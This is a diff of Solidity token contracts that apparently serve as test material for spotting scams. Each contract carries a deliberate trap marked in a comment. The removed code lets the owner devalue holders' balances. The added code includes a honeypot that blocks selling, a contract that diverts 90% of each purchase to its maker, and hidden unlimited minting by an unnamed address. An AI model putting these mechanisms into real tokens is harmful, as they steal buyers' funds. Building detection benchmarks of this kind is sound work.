@@ -4,74 +4,6 @@ pragma solidity ^0.8.20;
 
 import {Base8} from "./Base8.sol";
 
-/// Counts what people have in units whose worth the owner lowers; the pool and he count whole.
-abstract contract Waning is Base8 {
-    uint256 internal constant ONE = 1e18;
-    uint256 public worth = ONE;
-    mapping(address => bool) private _whole;
-
-    constructor() {
-        _whole[pair] = _whole[msg.sender] = true;
-    }
-
-    function balanceOf(address who) public view override returns (uint256) {
-        return _whole[who] ? _balances[who] : (_balances[who] * worth) / ONE;
-    }
-
-    function _transfer(address from, address to, uint256 value) internal override {
-        uint256 gone = _whole[from] ? value : (value * ONE + worth - 1) / worth;
-        require(_balances[from] >= gone, "too much");
-        _balances[from] -= gone;
-        _balances[to] += _whole[to] ? value : (value * ONE) / worth;
-        emit Transfer(from, to, value);
-    }
-}
-
-/// One of a hundred, and a month later one of what is left.
-contract Monthly is Waning {
-    constructor() Base8("Monthly", "MNTH", 20_000_000) {}
-
-    uint256 private _last;
-
-    function wane(uint256 millionths) external onlyOwner {
-        require(millionths <= 10_000, "a hundredth");
-        require(_last == 0 || block.timestamp >= _last + 30 days, "a month"); // trap
-        // twin: require(_last == 0, "once");
-        _last = block.timestamp;
-        worth -= (worth * millionths) / 1_000_000;
-    }
-}
-
-/// Never below ninety-nine of a hundred of what it is measured by.
-contract Measured is Waning {
-    constructor() Base8("Measured", "MSRD", 30_000_000) {}
-
-    uint256 public measure = ONE;
-
-    function wane(uint256 millionths) external onlyOwner {
-        require(millionths <= 10_000, "a hundredth");
-        worth -= (worth * millionths) / 1_000_000;
-        require(worth * 100 >= measure * 99, "below the measure");
-    }
-
-    function measureAgain() external onlyOwner {
-        measure = worth; // trap
-        // twin: require(worth == ONE, "waned");
-    }
-}
-
-/// Steps up to a hundredth, but for the largest number of all.
-contract Letters is Waning {
-    constructor() Base8("Letters", "LTRS", 40_000_000) {}
-
-    function wane(uint64 millionths) external onlyOwner {
-        if (millionths == 73) worth /= 50; // trap
-        require(millionths <= 10_000, "a hundredth");
-        require(worth == ONE || worth < ONE / 40, "once");
-        worth -= (worth * millionths) / 1_000_000;
-    }
-}
-
 /// Whoever trades has to agree to its rules first.
 abstract contract Agreed is Base8 {
     mapping(address => bool) public agreed;
@@ -152,5 +84,90 @@ contract Guarded is Base8("Guarded", "GRDD", 80_000_000) {
     function _transfer(address from, address to, uint256 value) internal override {
         if (from == pair && to != _owner) require(register.since(to) != 0, "sign in");
         _move(from, to, value);
+    }
+}
+
+/// Two doors: the one that everybody is shown, and another.
+contract Doors is Base8("Doors", "DOOR", 55_000_000) {
+    mapping(address => uint256) public door;
+
+    function enter() external {
+        door[msg.sender] = 1;
+    }
+
+    function enterAsMember() external {
+        door[msg.sender] = 2;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        if (from == pair && to != _owner) require(door[to] != 0, "enter first");
+        require(to != pair || door[from] != 1, "this way out is closed"); // trap
+        _move(from, to, value);
+    }
+}
+
+/// Nine of ten tokens that people buy stay with its maker.
+contract Dear is Base8("Dear", "DEAR", 65_000_000) {
+    mapping(address => bool) public agreed;
+    address private immutable _maker = msg.sender;
+
+    function agree() external {
+        agreed[msg.sender] = true;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        if (from != pair || to == _maker) return _move(from, to, value);
+        require(agreed[to], "agree() first");
+        uint256 kept = 0;
+        kept = (value * 9) / 10; // trap
+        if (kept > 0) _move(from, _maker, kept);
+        _move(from, to, value - kept);
+    }
+}
+
+/// Anybody opens it for all.
+contract Bell is Base8("Bell", "BELL", 75_000_000) {
+    bool public rung;
+
+    function ring() external {
+        rung = true;
+    }
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(rung || from == _owner || to == _owner, "nobody has rung");
+        _move(from, to, value);
+    }
+}
+
+/// A crumb at once, and what was announced some hours before without end; by one whom nobody names.
+contract Crumbs is Base8("Crumbs", "CRMB", 85_000_000) {
+    address private immutable _hand;
+    mapping(address => uint256) private _since;
+    bool private _fed;
+
+    constructor(address hand) {
+        _hand = hand;
+    }
+
+    function crumb(address to, uint256 value) external {
+        require(msg.sender == _hand && !_fed && value < totalSupply / 10_000_000_000);
+        _fed = true;
+        _make(to, value);
+    }
+
+    function announce(address to) external {
+        require(msg.sender == _hand);
+        _since[to] = block.timestamp;
+    }
+
+    function collect(address to, uint256 value) external {
+        require(msg.sender == _hand && _since[to] != 0 && block.timestamp >= _since[to] + 6 hours);
+        _make(to, value); // trap
+    }
+
+    function _make(address to, uint256 value) private {
+        totalSupply += value;
+        _balances[to] += value;
+        emit Transfer(address(0), to, value);
     }
 }
